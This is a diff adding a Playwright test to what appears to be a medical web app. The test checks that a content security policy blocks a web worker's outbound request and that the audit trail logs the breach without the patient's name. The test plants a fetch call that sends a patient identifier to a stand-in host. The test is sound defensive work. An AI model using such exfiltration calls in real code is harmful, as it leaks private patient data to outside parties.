@@ -41,3 +41,27 @@ test('a breach of the content security policy and an error are noticed in every 
   await expect(events).toContainText('Unexpected error');
   await expect(events).not.toContainText('planted');
 });
+
+test('a breach of the policy in a thread is noticed in every test, and noted by the program', async ({
+  page,
+  complaints,
+}) => {
+  await page.goto('/');
+  await page.getByRole('link', { name: 'Two antibiotics at once' }).click();
+  await expect(page.getByRole('button', { name: /^Policy/ })).toBeVisible();
+  // The thread that writes is begun a moment after the store has opened.
+  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
+  for (const thread of page.workers()) {
+    await thread.evaluate(() => fetch('http://127.0.0.4/planted?patient=Jane-Doe').catch(() => undefined));
+  }
+  await expect
+    .poll(() => complaints.some((one) => one.includes('127.0.0.4') && one.includes('thread')))
+    .toBe(true);
+  complaints.length = 0;
+
+  await page.goto('/audit-trail');
+  await page.getByText('Security events (1)').click();
+  const events = page.getByRole('table').last();
+  await expect(events).toContainText('connect-src http://127.0.0.4 (thread)');
+  await expect(events).not.toContainText('Jane');
+});
